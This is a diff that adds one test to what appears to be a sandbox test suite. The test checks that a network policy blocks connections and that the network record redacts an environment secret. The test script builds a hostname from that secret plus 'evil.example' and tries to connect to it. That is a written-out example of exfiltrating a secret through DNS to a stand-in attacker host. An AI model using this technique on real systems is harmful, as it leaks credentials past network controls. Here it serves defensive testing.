@@ -232,3 +232,19 @@ def e1g(t):
             t.check(not any(word in text for word in spellings(TOKEN)), f"the secret is in the copy {name}")
     # The list of changes has the name of the file as it is: an apply goes by it.
     absent(t, [TOKEN, "prefix-word"], but=("changes.jsonl",))
+
+
+def e1h(t):
+    """a secret as a name that is looked up and connected to: the network's record is without it"""
+    t.only_aegix()
+    script = ("import os, socket\n"
+              "for name in (os.environ['A'] + '.evil.example', 'far.example'):\n"
+              "  try: socket.create_connection((name, 80), timeout=5)\n"
+              "  except OSError as e: print('refused')\n")
+    policy = '[network]\nmode = "allow"\nallow = ["only.example"]\n'
+    told = t.run("/usr/bin/python3", "-c", script, env=ENV, options=ASKED, policy=policy, deadline=60)
+    t.ran(told)
+    t.check(told.text == "refused\nrefused\n", f"the lookups: {told}")
+    names = {one["name"] for one in told.record["network"]}
+    t.check({"[redacted:A].evil.example", "far.example"} <= names, f"the names of the lookups: {names}")
+    absent(t, ["prefix-word"])
